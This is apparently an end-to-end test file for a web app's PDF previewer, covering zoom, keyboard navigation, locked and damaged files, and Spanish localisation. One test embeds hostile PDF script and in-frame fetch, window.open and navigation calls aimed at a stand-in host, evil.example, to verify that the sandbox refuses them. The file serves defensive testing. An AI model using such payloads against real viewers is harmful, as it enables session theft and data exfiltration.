/** Previews of PDFs: what they show, their keys, and that a hostile document reaches nothing. */
import type { FrameLocator, Page, Response } from "playwright-core";
import { expect } from "vitest";
import { caller } from "./api";
import { createPdf } from "./pdf";
import { people } from "./server";
import { at, gone, look, shown, test } from "./stage";

const pdf = (name: string, buffer: Buffer) => ({ name, mimeType: "application/pdf", buffer });

const offer = pdf(
  "offer.pdf",
  createPdf({
    pages: [["Offer for Acme", "Twelve hundred labels"], ["Delivery in March"], ["Signed in Madrid"]],
    script: "app.alert('opened'); app.launchURL('https://evil.example/script'); this.submitForm('https://evil.example/form');",
    link: "https://evil.example/link",
  }),
);
const locked = pdf("locked.pdf", createPdf({ pages: [["Secret"]], locked: true }));
const damaged = pdf("damaged.pdf", Buffer.from("%PDF-1.7\nnothing"));

const viewer = (page: Page): FrameLocator => page.frameLocator("[role=dialog] iframe");
/** Returns the width in pixels of the first page's drawing, and whether it has ink. */
const drawing = (page: Page) =>
  viewer(page)
    .locator("canvas")
    .first()
    .evaluate((element) => {
      const canvas = element as HTMLCanvasElement;
      const pixels = canvas.getContext("2d")?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
      return { width: canvas.width, hasInk: pixels.some((value, index) => index % 4 === 0 && value < 100) };
    });

/** Creates a task and opens it with these files. */
async function openTask(open: (path: string) => Promise<void>, page: Page, title: string, files: ReturnType<typeof pdf>[]) {
  const ada = await caller(at(undefined), people.ada.email);
  const { id } = await ada.call<{ id: string }>("POST", "/api/tasks", { title });
  await open(`/tasks/${id}`);
  for (const file of files) {
    await page.locator("input[type=file][aria-label='Add file']").setInputFiles(file);
    await shown(page.getByRole("button", { name: `Open ${file.name}` }));
  }
}

test("a PDF on a task opens, zooms and closes by keys, between the other files", async ({ visit }) => {
  const { page, open } = await visit({ as: people.ada });
  // The newest file is the first.
  const picture = {
    name: "van.png",
    mimeType: "image/png",
    buffer: await page.screenshot({ clip: { x: 0, y: 0, width: 60, height: 40 } }),
  };
  await openTask(open, page, "Check the offer", [damaged, locked, picture, offer]);
  await page.getByRole("button", { name: "Open offer.pdf" }).click();
  const dialog = page.getByRole("dialog", { name: "offer.pdf" });
  await shown(dialog.getByText("Page 1 of 3"));
  await shown(viewer(page).getByText("Twelve hundred labels"));
  await expect.poll(async () => (await drawing(page)).hasInk).toBe(true);
  const { width } = await drawing(page);

  // The document has the focus, so keys scroll and zoom it.
  await page.keyboard.press("End");
  await shown(dialog.getByText("Page 3 of 3"));
  await shown(viewer(page).getByText("Signed in Madrid"));
  await page.keyboard.press("Home");
  await page.keyboard.press("+");
  await shown(dialog.getByText("Page 1 of 3 · 125%"));
  await expect.poll(async () => (await drawing(page)).width / width).toBeCloseTo(1.25, 2);
  await page.keyboard.press("-");
  await page.keyboard.press("-");
  await shown(dialog.getByText("Page 1 of 3 · 75%"));
  await page.keyboard.press("0");
  await expect.poll(async () => (await drawing(page)).width).toBe(width);
  // The buttons do the same, and the keys also while the focus is there.
  await dialog.getByRole("button", { name: "Zoom in" }).click();
  await shown(dialog.getByText("· 125%"));
  await page.keyboard.press("0");
  await expect.poll(async () => (await drawing(page)).width).toBe(width);
  await page.keyboard.press("PageDown");
  await shown(dialog.getByText(/^Page [23] of 3$/));
  await look(page, "pdf", "en");
  await page.setViewportSize({ width: 1440, height: 900 });

  // Pictures and documents of the list follow each other, by keys in the frame and by the buttons.
  await viewer(page).locator("body").press("ArrowRight");
  await shown(page.getByRole("dialog", { name: "van.png" }).getByRole("img"));
  await page.keyboard.press("ArrowRight");
  const alert = page.getByRole("alert");
  await shown(alert.getByText("This document is protected by a password. Download it to open it."));
  await page.getByRole("dialog").getByRole("button", { name: "Next" }).last().click();
  await shown(alert.getByText("This document can’t be read. Download it to try another program."));
  const download = page.waitForEvent("download");
  await alert.getByRole("link", { name: "Download" }).click();
  expect((await download).suggestedFilename()).toBe("damaged.pdf");
  await page.getByRole("dialog").getByRole("button", { name: "Next" }).last().click();
  await shown(viewer(page).getByText("Twelve hundred labels"));

  await viewer(page).locator("body").press("Escape");
  await gone(page.getByRole("dialog", { name: "offer.pdf" }));
  await expect.poll(() => page.evaluate(() => document.activeElement?.textContent)).toMatch(/^Open offer\.pdf/);
});

test("a PDF with a script and a link does nothing, and its frame reaches no session, storage or server", async ({ visit }) => {
  const { page, context, open, allow } = await visit({ as: people.ada });
  await openTask(open, page, "Refuse the offer", [offer]);
  const requests: string[] = [];
  const dialogs: string[] = [];
  context.on("request", (request) => requests.push(request.url()));
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const served = new Promise<Response>((done) =>
    page.on("response", (response) => response.url().includes("/pdf-viewer-") && done(response)),
  );
  await page.getByRole("button", { name: "Open offer.pdf" }).click();
  await shown(viewer(page).getByText("Twelve hundred labels"));
  expect(await page.locator("[role=dialog] iframe").getAttribute("sandbox")).toBe("allow-scripts");
  expect((await served).headers()["content-security-policy"]).toContain("sandbox allow-scripts; default-src 'none'; ");

  // The link covers the whole page.
  const address = page.url();
  await viewer(page).getByText("Twelve hundred labels").click();
  await viewer(page)
    .locator("section")
    .first()
    .click({ position: { x: 300, y: 400 } });
  expect(await viewer(page).locator("a, input, button, form, object, embed, iframe").count()).toBe(0);

  // What a document could do that has taken the frame over.
  allow(/Content Security Policy|TrustedScript|violates|Refused|Failed to load|sandboxed/i);
  const reached = await viewer(page)
    .locator("body")
    .evaluate(async () => {
      const fails = (action: () => unknown) => {
        try {
          return action() === undefined;
        } catch {
          return true;
        }
      };
      const refused = (request: Promise<unknown>) =>
        request.then(
          () => false,
          () => true,
        );
      return {
        origin: self.origin,
        cookie: fails(() => document.cookie),
        storage: fails(() => localStorage),
        database: fails(() => indexedDB.open("a")),
        parent: fails(() => parent.document),
        // The browser allows `eval` to the test itself, but not to a timer.
        text: await new Promise((done) => {
          fails(() => setTimeout("document.title = 'taken'"));
          setTimeout(() => done(document.title !== "taken"), 50);
        }),
        call: await refused(fetch("/api/common/user", { credentials: "include" })),
        elsewhere: await refused(fetch("https://evil.example/fetch")),
        window: window.open("https://evil.example/window") === null,
        top: fails(() => {
          parent.location.href = "https://evil.example/top";
          return "moved";
        }),
      };
    });
  const { origin, ...refusals } = reached;
  expect(origin).toBe("null");
  expect(Object.entries(refusals).filter(([, isRefused]) => !isRefused)).toEqual([]);
  expect(page.url()).toBe(address);
  // The frame itself can be led nowhere else either.
  await viewer(page)
    .locator("body")
    .evaluate(() => {
      location.href = "https://evil.example/frame";
    })
    .catch(() => undefined);
  await page.keyboard.press("Escape");
  expect(dialogs).toEqual([]);
  expect(context.pages()).toHaveLength(1);
  const own = new URL(address).origin;
  expect(requests.filter((url) => !url.startsWith(`${own}/`) && !/^(blob|data):/.test(url))).toEqual([]);
});

test("a PDF in a message opens in Spanish", async ({ visit }) => {
  const ada = await caller(at(undefined), people.ada.email);
  const ben = await caller(at(undefined), people.ben.email);
  const { id } = await ada.call<{ id: string }>("POST", "/api/apps/chat/chat", { contactId: ben.id });
  const { page, open } = await visit({ as: people.ada, locale: "es", width: 390, height: 844 });
  await ada.call("PATCH", "/api/common/user", { locale: "es" });
  try {
    await open(`/chat/${id}`);
    await page.locator("form input[type=file]").setInputFiles({ ...offer, name: "oferta.pdf" });
    await page.getByRole("button", { name: "Enviar", exact: true }).click();
    await page.getByRole("button", { name: "Abrir oferta.pdf" }).click();
    await shown(page.getByRole("dialog", { name: "oferta.pdf" }).getByText("Página 1 de 3"));
    await shown(viewer(page).getByRole("region", { name: "Página 1 de 3" }).getByText("Offer for Acme"));
    await look(page, "pdf", "es");
    await page.getByRole("button", { name: "Cerrar" }).click();
    await gone(page.getByRole("dialog", { name: "oferta.pdf" }));
  } finally {
    await ada.call("PATCH", "/api/common/user", { locale: "en" });
  }
});
